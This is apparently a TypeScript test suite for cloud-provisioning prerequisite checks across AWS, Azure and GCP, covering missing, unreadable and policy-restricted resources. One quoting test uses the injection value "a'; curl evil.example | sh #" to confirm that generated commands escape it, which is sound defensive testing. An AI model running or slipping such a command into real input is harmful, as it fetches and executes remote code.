/** Tests every prerequisite of every resource type: each missing in turn, each unreadable in turn, and all of them met. */
import { provisionPrerequisites, type Prerequisite } from '@cmp/contract/provision-prerequisites'
import { provisionTypes } from '@cmp/contract/provision-types'
import { requestInContainer } from '@cmp/contract/testing/provision-requests'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { createAwsCloud } from '../aws/aws.ts'
import { createAzureCloud } from '../azure/azure.ts'
import { createGoogleCloud } from '../gcp/google.ts'
import type { PrerequisitesPort } from '../ports/prerequisites.ts'
import { awsAccount } from './aws-answers.ts'
import { awsFields, buildAwsRefusal, startAwsServer } from './aws-server.ts'
import { subscription } from './azure-answers.ts'
import { azureFields, startAzureServer } from './azure-server.ts'
import type { Answer, CloudServer } from './cloud-server.ts'
import { googleProject } from './google-answers.ts'
import { googleFields, buildGoogleRefusal, startGoogleServer } from './google-server.ts'
import { getPrerequisiteCase, prerequisiteCases } from './prerequisite-cases.ts'

type Stage = {
  server: CloudServer
  port: PrerequisitesPort
  containerId: string
  refused: (isJson: boolean) => Answer
}

const stages: Record<string, Stage> = {}

beforeAll(async () => {
  const [azure, google, aws] = await Promise.all([startAzureServer(), startGoogleServer(), startAwsServer()])
  stages['Azure'] = {
    server: azure,
    port: createAzureCloud(azureFields, azure.tools).prerequisites,
    containerId: subscription,
    refused: () => ({
      status: 403,
      body: { error: { code: 'AuthorizationFailed', message: 'The client is not allowed.' } },
    }),
  }
  stages['GCP'] = {
    server: google,
    port: createGoogleCloud(googleFields, google.tools).prerequisites,
    containerId: googleProject,
    refused: () => buildGoogleRefusal(403, 'PERMISSION_DENIED', 'The caller does not have permission'),
  }
  stages['AWS'] = {
    server: aws,
    port: createAwsCloud(awsFields, aws.tools).prerequisites,
    containerId: awsAccount,
    refused: (isJson) =>
      isJson
        ? { status: 400, body: { __type: 'AccessDeniedException', message: 'You are not authorized.' } }
        : buildAwsRefusal(403, 'UnauthorizedOperation', 'You are not authorized to perform this operation.'),
  }
})
afterAll(async () => {
  for (const { server } of Object.values(stages)) await server.close()
})

const stageOf = (cloud: string): Stage => {
  const stage = stages[cloud]
  if (!stage) throw new Error(`Nothing stands in for ${cloud}.`)
  return stage
}

/** Field values with which every kind of prerequisite is used by some request. */
const more: Readonly<Record<string, object>> = {
  'gcp-virtual-machine': {
    Network: 'shop-net',
    Subnetwork: 'web',
    ExternalIp: 'Ephemeral',
    CanIpForward: true,
    IsSecureBoot: false,
  },
  'gcp-cloud-sql': { Networks: [{ Name: 'office', Value: '203.0.113.0/24' }] },
  'gcp-storage-bucket': { UniformBucketLevelAccess: false },
  'aws-sql-database': { SubnetGroupName: 'shop-subnets' },
  'aws-virtual-machine': { SecurityGroupIds: ['sg-0123456789abcdef0'], KeyPairName: 'ops' },
  'azure-virtual-machine': { NetworkInterfaceId: undefined },
}

const buildRequests = (name: string, containerId: string): object[] => {
  const least = requestInContainer(name, 'least', containerId)
  return [least, requestInContainer(name, 'all', containerId), { ...least, ...more[name] }]
}

const needsOf = (name: string, containerId: string): Prerequisite[] => {
  const found = buildRequests(name, containerId).flatMap((request) => [
    ...(provisionPrerequisites[name]?.of(Object.fromEntries(Object.entries(request))) ?? []),
  ])
  return [...new Map(found.map((need) => [JSON.stringify(need), need])).values()]
}

/** Sets the provider's responses for the needs, with one of them broken. */
const stageAnswers = (
  { server, refused }: Stage,
  needs: readonly Prerequisite[],
  broken?: { need: Prerequisite; as: 'missing' | 'refused' },
): void => {
  const cases = needs.map((need) => getPrerequisiteCase(need, need.is))
  const worst = broken && getPrerequisiteCase(broken.need, broken.need.is)
  server.answerWith((received) => {
    if (worst?.matchesRequest(received))
      return broken?.as === 'missing' ? worst.missing(received) : refused('x-amz-target' in received.headers)
    return cases.find(({ matchesRequest }) => matchesRequest(received))?.present(received)
  })
}

test('every type declares its prerequisites, and every type of prerequisite is used', () => {
  expect(Object.keys(provisionPrerequisites).toSorted()).toEqual(
    provisionTypes.map(({ name }) => name).toSorted(),
  )
  const kinds = new Set(provisionTypes.flatMap(({ name }) => needsOf(name, 'x').map(({ is }) => is)))
  expect([...kinds].toSorted()).toEqual(Object.keys(prerequisiteCases).toSorted())
  for (const { name, fields, secrets } of provisionTypes) {
    const { by = [] } = provisionPrerequisites[name] ?? {}
    expect(
      by.filter((field) => !(field in fields) || secrets.includes(field)),
      name,
    ).toEqual([])
    // Fields that are not named are not read: a form sends only those fields.
    for (const request of buildRequests(name, 'x')) {
      const own = Object.fromEntries(Object.entries(request).filter(([field]) => by.includes(field)))
      const listNeeds = (values: object) =>
        provisionPrerequisites[name]?.of(Object.fromEntries(Object.entries(values)))
      expect(listNeeds(own), name).toEqual(listNeeds(request))
    }
    expect(() => provisionPrerequisites[name]?.of({}), name).not.toThrow()
  }
})

test.each(provisionTypes.map(({ name, cloud }) => [name, cloud] as const))(
  '%s: names missing prerequisites with their command, marks unreadable ones as unknown and omits fulfilled ones',
  async (name, cloud) => {
    const stage = stageOf(cloud)
    const { port, containerId } = stage
    const needs = needsOf(name, containerId)
    stageAnswers(stage, needs)
    expect(await port.check(needs, containerId)).toEqual([])
    for (const need of needs) {
      const { text, command } = getPrerequisiteCase(need, need.is)
      stageAnswers(stage, needs, { need, as: 'missing' })
      const [missing, ...others] = await port.check([need], containerId)
      expect(others, need.is).toEqual([])
      expect(missing, JSON.stringify(need)).toEqual({
        status: 'missing',
        text: expect.stringMatching(text),
        command: expect.stringMatching(command),
      })
      stageAnswers(stage, needs, { need, as: 'refused' })
      const [unknown, ...more] = await port.check([need], containerId)
      expect(more, need.is).toEqual([])
      expect(unknown, JSON.stringify(need)).toEqual({
        status: 'unknown',
        whether: expect.stringMatching(/./),
        why: expect.stringMatching(/not (allowed|authorized)|permission/),
      })
    }
  },
)

test('quotes a user’s name as a single word of a command', async () => {
  const stage = stageOf('AWS')
  const name = "a'; curl evil.example | sh #"
  stageAnswers(stage, [], { need: { is: 'aws-key-pair', region: 'us-east-1', name }, as: 'missing' })
  const [missing] = await stage.port.check([{ is: 'aws-key-pair', region: 'us-east-1', name }], awsAccount)
  expect(missing).toMatchObject({
    command: String.raw`aws ec2 import-key-pair --region us-east-1 --key-name 'a'\''; curl evil.example | sh #' --public-key-material fileb://PUBLIC_KEY.pub`,
  })
})

test.each([
  ['denyAll', { denyAll: true }, 'asia-southeast1', 'missing'],
  ['a denied value', { values: { deniedValues: ['is:asia-southeast1'] } }, 'asia-southeast1', 'missing'],
  ['another denied value', { values: { deniedValues: ['europe-west1'] } }, 'asia-southeast1', undefined],
  ['a group with it', { values: { allowedValues: ['in:asia-locations'] } }, 'asia-southeast1', undefined],
  [
    'a group of its region',
    { values: { allowedValues: ['in:asia-southeast1-locations'] } },
    'asia-southeast1',
    undefined,
  ],
  ['a group without it', { values: { allowedValues: ['in:us-locations'] } }, 'asia-southeast1', 'missing'],
  [
    'a group that only Google knows',
    { values: { allowedValues: ['in:eu-locations'] } },
    'europe-west1',
    'unknown',
  ],
  ['a condition', { condition: { expression: 'x' }, denyAll: true }, 'asia-southeast1', 'unknown'],
] as const)('a list policy of Google with %s', async (_what, rule, value, status) => {
  const { server, port, containerId } = stageOf('GCP')
  server.answerWith(({ path }) =>
    path.endsWith(':getEffectivePolicy') ? { body: { spec: { rules: [rule] } } } : undefined,
  )
  const need = {
    is: 'google-list-constraint',
    constraint: 'gcp.resourceLocations',
    value,
    text: 'No.',
  } as const
  expect((await port.check([need], containerId)).map((finding) => finding.status)).toEqual(
    status === undefined ? [] : [status],
  )
})
